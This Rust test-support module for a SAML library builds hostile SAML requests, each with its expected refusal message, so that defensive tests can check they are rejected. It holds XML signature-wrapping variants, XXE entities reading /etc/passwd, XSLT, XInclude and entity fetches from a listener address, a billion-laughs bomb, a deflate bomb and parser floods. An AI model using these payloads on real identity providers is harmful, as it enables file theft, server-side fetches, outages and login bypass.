//! SAML messages that nobody honest sends, each with the words that it is refused with. Owns what is
//! in them; who sends them, and what becomes of them, is the tests' matter.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use latchkey_core::rng::SystemRng;
use latchkey_saml::keys::Credential;
use latchkey_saml::messages::{
    ArtifactResolve, AuthnRequest, Header, LogoutRequest, MessageId, RequestedConsumer,
};
use latchkey_saml::redirect::{self, Parameter};
use latchkey_saml::write::WriteError;

use crate::browser::encode;

/// How a message comes.
#[derive(Clone, Debug)]
pub enum Sent {
    /// In the query of an address.
    Query(String),
    /// In the body of a form.
    Form(String),
}

/// A message that is refused.
#[derive(Clone, Debug)]
pub struct Hostile {
    /// What is wrong with it.
    pub name: &'static str,
    /// The message.
    pub sent: Sent,
    /// What whoever sends it reads.
    pub words: &'static str,
    /// The message itself, where it can be sent otherwise too.
    pub xml: Option<String>,
}

/// Whose name hostile messages are sent under: an honest request of this moment, which they are made
/// of.
pub struct Victim {
    /// The element of the message.
    element: &'static str,
    id: String,
    issuer: String,
    unsigned: String,
    signed: String,
    /// Signed with somebody else's key.
    stranger: String,
    /// What it is signed by.
    algorithm: &'static str,
    /// Where nothing must ever be fetched from.
    elsewhere: String,
}

const CHANGED: &str = "the message was changed after it was signed";
const OTHER_KEY: &str = "not made with a key that is registered for the sender";
const ELSEWHERE: &str = "a signature elsewhere than directly in the message";
const TRANSFORM: &str = "covers something that is made of the message";
const ENVELOPED: &str = "<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\">\
     </ds:Transform>";

fn form(name: &'static str, xml: &str, words: &'static str) -> Hostile {
    let sent = Sent::Form(encode(&[("SAMLRequest", &STANDARD.encode(xml))]));
    Hostile { name, sent, words, xml: Some(xml.to_owned()) }
}

fn query(name: &'static str, xml: &str, words: &'static str) -> Hostile {
    Hostile {
        name,
        sent: Sent::Query(redirect::write(Parameter::Request, xml, None)),
        words,
        xml: None,
    }
}

/// A request with nothing special in it.
#[must_use]
pub fn plain(issuer: &str, destination: &str, at: latchkey_core::Timestamp) -> AuthnRequest {
    AuthnRequest {
        header: Header {
            id: MessageId::random(&SystemRng),
            issued_at: at,
            destination: Some(destination.to_owned()),
            issuer: issuer.to_owned(),
        },
        consumer: RequestedConsumer::Default,
        attribute_consuming_service_index: None,
        force_authn: false,
        is_passive: false,
        name_id_policy: None,
        requested_context: None,
        subject: None,
        scoping: None,
        provider_name: None,
        has_conditions: false,
    }
}

impl Victim {
    /// Whoever has a key and asks for a log-in; `elsewhere` is an address that is listened at.
    ///
    /// # Errors
    /// When the request cannot be written.
    pub fn logging_in(
        request: &AuthnRequest,
        key: &Credential,
        stranger: &Credential,
        elsewhere: &str,
    ) -> Result<Self, WriteError> {
        let write = |credential: Option<&Credential>| request.write(credential);
        Self::new("AuthnRequest", &request.header, write, [key, stranger], elsewhere)
    }

    /// The same who asks for a log-out.
    ///
    /// # Errors
    /// When the request cannot be written.
    pub fn logging_out(
        request: &LogoutRequest,
        key: &Credential,
        stranger: &Credential,
        elsewhere: &str,
    ) -> Result<Self, WriteError> {
        let write = |credential: Option<&Credential>| request.write(credential);
        Self::new("LogoutRequest", &request.header, write, [key, stranger], elsewhere)
    }

    /// The same who fetches a message by its reference.
    ///
    /// # Errors
    /// When the request cannot be written.
    pub fn resolving(
        request: &ArtifactResolve,
        key: &Credential,
        stranger: &Credential,
        elsewhere: &str,
    ) -> Result<Self, WriteError> {
        let write = |credential: Option<&Credential>| request.write(credential);
        Self::new("ArtifactResolve", &request.header, write, [key, stranger], elsewhere)
    }

    fn new(
        element: &'static str,
        header: &Header,
        write: impl Fn(Option<&Credential>) -> Result<String, WriteError>,
        [key, stranger]: [&Credential; 2],
        elsewhere: &str,
    ) -> Result<Self, WriteError> {
        Ok(Self {
            element,
            id: header.id.as_str().to_owned(),
            issuer: header.issuer.clone(),
            unsigned: write(None)?,
            signed: write(Some(key))?,
            stranger: write(Some(stranger))?,
            algorithm: key.key().algorithm().uri(),
            elsewhere: elsewhere.to_owned(),
        })
    }

    fn is_log_in(&self) -> bool {
        self.element == "AuthnRequest"
    }

    /// The signature of the honest request, and the request without it.
    fn apart(&self) -> (String, String) {
        let signed = &self.signed;
        let from = signed.find("<ds:Signature ").unwrap_or_default();
        let end = "</ds:Signature>";
        let to = signed.find(end).map_or(from, |at| at + end.len());
        (signed[from..to].to_owned(), format!("{}{}", &signed[..from], &signed[to..]))
    }

    /// The honest request with more in it, right after its issuer or signature.
    fn with(xml: &str, after: &str, more: &str) -> String {
        xml.replacen(after, &format!("{after}{more}"), 1)
    }

    /// Signatures that prove nothing.
    #[must_use]
    pub fn signatures(&self) -> Vec<Hostile> {
        let signed = &self.signed;
        let own = self.algorithm;
        let algorithm = |uri: &str| signed.replacen(own, uri, 1);
        let stranger = &self.stranger;
        let evil = format!("{}/evil", self.elsewhere);
        let reference = format!("URI=\"#{}\"", self.id);
        let refers = |to: &str| signed.replacen(&reference, &format!("URI=\"{to}\""), 1);
        let transform = |more: &str| Self::with(signed, ENVELOPED, more);
        let xslt = format!(
            "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\">\
             <x:stylesheet xmlns:x=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\">\
             <x:template match=\"/\"><x:copy-of select=\"document('{evil}')\"/></x:template>\
             </x:stylesheet></ds:Transform>"
        );
        let xpath = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\">\
                     <ds:XPath>count(//. | //@* | //namespace::*)</ds:XPath></ds:Transform>";
        let key_info = format!("<ds:RetrievalMethod URI=\"{evil}\"></ds:RetrievalMethod>");
        let fetched = stranger.replacen("<ds:X509Data>", &format!("{key_info}<ds:X509Data>"), 1);
        let elements = "<a xmlns=\"urn:a\"></a>".repeat(9_000);
        let elements = format!("<samlp:Extensions>{elements}</samlp:Extensions>");
        let long = |xml: &str| Self::with(xml, "</saml:Issuer>", &elements);
        let sha256 = "http://www.w3.org/2001/04/xmlenc#sha256";
        let sha1 = "http://www.w3.org/2000/09/xmldsig#sha1";
        let with_comments = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments";
        let plain = "http://www.w3.org/2001/10/xml-exc-c14n#";
        vec![
            form("unsigned", &self.unsigned, "the message is not signed"),
            query("unsigned in an address", &self.unsigned, "the message is not signed"),
            query("signed inside of an address", signed, "must not have a signature inside"),
            form("another key, in its own KeyInfo", stranger, OTHER_KEY),
            form("a key that is to be fetched", &fetched, OTHER_KEY),
            form("tampered with", &signed.replacen(" ID=", " Consent=\"urn:x\" ID=", 1), CHANGED),
            form("tampered with at length", &long(signed), CHANGED),
            form("at length, by another key", &long(stranger), OTHER_KEY),
            form("SHA-1", &algorithm("http://www.w3.org/2000/09/xmldsig#rsa-sha1"), "SHA-1"),
            form("HMAC", &algorithm("http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"), "HMAC"),
            form("no algorithm", &algorithm("urn:none"), "an algorithm that is not known here"),
            form("a digest of SHA-1", &signed.replacen(sha256, sha1, 1), "another algorithm than"),
            form("another element's", &refers("#_other"), "another element than the message"),
            form("the whole document's", &refers(""), "another element than the message"),
            form("an address's", &refers(&evil), "another element than the message"),
            form("a file's", &refers("file:///etc/passwd"), "another element than the message"),
            form("an XPointer's", &refers("#xpointer(/)"), "another element than the message"),
            form("XSLT", &transform(&xslt), TRANSFORM),
            form("XPath", &transform(xpath), TRANSFORM),
            form(
                "with comments",
                &signed.replacen(plain, with_comments, 1),
                "not in exclusive canonical form",
            ),
            form(
                "a reference twice",
                &signed.replacen("</ds:Reference>", "</ds:Reference><ds:Reference/>", 1),
                "several things or none",
            ),
            form(
                "no value",
                &signed.replacen("<ds:SignatureValue>", "<ds:SignatureValue>*", 1),
                "broken",
            ),
        ]
    }

    /// Honest signatures around or beside something else.
    #[must_use]
    pub fn wrappings(&self) -> Vec<Hostile> {
        let signed = &self.signed;
        let (signature, bare) = self.apart();
        let own_id = self.id.as_str();
        let evil = bare.replace(own_id, "_evil");
        let after_issuer = "</saml:Issuer>";
        let extensions = |content: &str| format!("<samlp:Extensions>{content}</samlp:Extensions>");
        let object = signature.replacen(
            "</ds:Signature>",
            &format!("<ds:Object>{bare}</ds:Object></ds:Signature>"),
            1,
        );
        let envelope = |body: &str| {
            format!(
                "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body>{body}\
                 </s:Body></s:Envelope>"
            )
        };
        let duplicate = Self::with(&bare, after_issuer, &extensions(signed));
        vec![
            form(
                "the honest one in its Extensions",
                &Self::with(&evil, after_issuer, &extensions(signed)),
                ELSEWHERE,
            ),
            form("two of one ID", &duplicate, "two elements of one ID"),
            form(
                "the honest one in the Object of its signature",
                &Self::with(&evil, after_issuer, &object),
                "broken",
            ),
            form(
                "the honest one as its child",
                &Self::with(&evil, after_issuer, signed),
                ELSEWHERE,
            ),
            form(
                "the honest one's signature beside other content",
                &Self::with(&evil, after_issuer, &signature),
                "another element than the message",
            ),
            form(
                "two signatures",
                &Self::with(signed, after_issuer, &signature),
                "more than one signature",
            ),
            form(
                "a signature deeper inside",
                &Self::with(&bare, after_issuer, &extensions(&signature)),
                ELSEWHERE,
            ),
            form("in an envelope", &envelope(signed), "takes other messages"),
            form("two documents", &format!("{signed}{evil}"), "the XML is broken"),
        ]
    }

    /// XML that is not looked at any further.
    #[must_use]
    pub fn documents(&self) -> Vec<Hostile> {
        let plain = &self.unsigned;
        let evil = format!("{}/evil", self.elsewhere);
        let typed = |inside: &str| format!("<!DOCTYPE a {inside}>{plain}");
        let laughs: String = (1..10)
            .map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10)))
            .collect();
        let root = format!("<samlp:{}", self.element);
        let flood = |more: &str| plain.replacen(&root, &format!("{root}{more}"), 1);
        let many =
            |of: &dyn Fn(usize) -> String, count: usize| -> String { (0..count).map(of).collect() };
        let within = |content: &str| Self::with(plain, "</saml:Issuer>", content);
        let deep = format!("{}{}", "<a>".repeat(30_000), "</a>".repeat(30_000));
        let issuer = self.issuer.as_str();
        let comment = plain.replacen(issuer, &format!("{issuer}<!-- x -->.evil.example"), 1);
        let xinclude = format!(
            "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"{evil}\"></xi:include>"
        );
        // An unsigned log-out is not read any further.
        let unread = |words| if self.is_log_in() { words } else { "the message is not signed" };
        let named = |prefix: &str, name: usize| format!(" {prefix}{name}=\"x\"");
        vec![
            form("a document type", &typed(""), "DOCTYPE"),
            form("one that is to be fetched", &typed(&format!("SYSTEM \"{evil}\"")), "DOCTYPE"),
            form(
                "a file as an entity",
                &typed("[<!ENTITY x SYSTEM \"file:///etc/passwd\">]"),
                "DOCTYPE",
            ),
            form(
                "a parameter entity",
                &typed(&format!("[<!ENTITY % x SYSTEM \"{evil}\"> %x;]")),
                "DOCTYPE",
            ),
            form("a billion laughs", &typed(&format!("[<!ENTITY l0 \"ha\">{laughs}]")), "DOCTYPE"),
            form("an unknown entity", &within("&x;"), "refers to an entity"),
            form(
                "a stylesheet",
                &format!("<?xml-stylesheet href=\"{evil}\"?>{plain}"),
                "processing instruction",
            ),
            form("another document, included", &within(&xinclude), unread("does not belong there")),
            form("nested too deeply", &within(&deep), "nested too deeply"),
            form(
                "a flood of attributes",
                &flood(&many(&|n| named("a", n), 20_000)),
                "too many attributes",
            ),
            form(
                "a flood of namespaces",
                &flood(&many(&|n| named("xmlns:n", n), 60)).replacen(
                    "<saml:Issuer",
                    &format!("<saml:Issuer{}", many(&|n| named("xmlns:m", n), 63)),
                    1,
                ),
                "too many",
            ),
            form("a flood of elements", &within(&"<a/>".repeat(40_000)), "too many elements"),
            form("a flood of texts", &within(&"a&lt;".repeat(30_000)), "too many elements"),
            form(
                "broken tags",
                &plain.replacen("</saml:Issuer>", "</saml:Issue>", 1),
                "the XML is broken",
            ),
            form("a name cut by a comment", &comment, "not registered"),
            form(
                "an attribute twice",
                &flood(" Consent=\"1\" Consent=\"0\""),
                "the same attribute twice",
            ),
            form("a prefix that is nobody's", &within("<x:a/>"), "namespace prefix"),
            form("a character that is none", &within("&#0;"), "character"),
            form(
                "another encoding",
                &format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>{plain}"),
                "not in UTF-8",
            ),
            form("too much XML", &within(&"a".repeat(256 * 1024)), "longer than 256 KiB"),
            query("a deflate bomb", &" ".repeat(8 * 1024 * 1024), "longer than 256 KiB"),
            query(
                "markup in its name",
                &plain.replacen(issuer, "https://&lt;script&gt;alert(1)&lt;/script&gt;", 1),
                "not registered",
            ),
            form(
                "another version",
                &plain.replacen("Version=\"2.0\"", "Version=\"1.1\"", 1),
                unread("not of SAML version 2.0"),
            ),
            form("no issuer", &plain.replacen(":Issuer", ":Other", 2), "no Issuer"),
        ]
    }

    /// What carries no message, or several.
    #[must_use]
    pub fn carriages(&self) -> Vec<Hostile> {
        let honest = redirect::write(Parameter::Request, &self.unsigned, Some("a"));
        let query = |name, query: String, words| Hostile {
            name,
            sent: Sent::Query(query),
            words,
            xml: None,
        };
        let form =
            |name, body: String, words| Hostile { name, sent: Sent::Form(body), words, xml: None };
        let broken = STANDARD.encode([b'<', 0xff, 0xfe, b'>']);
        vec![
            query("nothing", String::new(), "neither a SAMLRequest nor a SAMLResponse"),
            query(
                "an answer",
                honest.replacen("SAMLRequest", "SAMLResponse", 1),
                if self.is_log_in() { "the message is an answer" } else { "no request of ours" },
            ),
            query("both", format!("{honest}&SAMLResponse=AAAA"), "both a SAMLRequest and"),
            query(
                "a request twice",
                format!("{honest}&SAMLRequest=AAAA"),
                "SAMLRequest is there more than once",
            ),
            query(
                "one of them in other letters",
                format!("{honest}&SAML%52equest=AAAA"),
                "more than once",
            ),
            query("a RelayState twice", format!("{honest}&RelayState=b"), "more than once"),
            query("half a signature", format!("{honest}&Signature=AAAA"), "without a SigAlg"),
            query(
                "another encoding",
                format!("{honest}&SAMLEncoding=none"),
                "another than DEFLATE",
            ),
            query("no base64", "SAMLRequest=%2A".to_owned(), "not base64"),
            query("no DEFLATE", "SAMLRequest=AAAA".to_owned(), "not compressed by DEFLATE"),
            query("half an escape", "SAMLRequest=%2".to_owned(), "not encoded as an address"),
            query("no UTF-8", "SAMLRequest=%FF".to_owned(), "not encoded as an address"),
            query(
                "a RelayState without end",
                redirect::write(Parameter::Request, &self.unsigned, Some(&"a".repeat(2049))),
                "RelayState is longer",
            ),
            form("no base64 in a form", "SAMLRequest=%2A".to_owned(), "not base64"),
            form("no UTF-8 in a form", encode(&[("SAMLRequest", &broken)]), "not in UTF-8"),
            form(
                "base64 without end",
                format!("SAMLRequest={}", "A".repeat(600_000)),
                "longer than 256 KiB",
            ),
        ]
    }

    /// Every one of them.
    #[must_use]
    pub fn all(&self) -> Vec<Hostile> {
        [self.signatures(), self.wrappings(), self.documents(), self.carriages()].concat()
    }
}
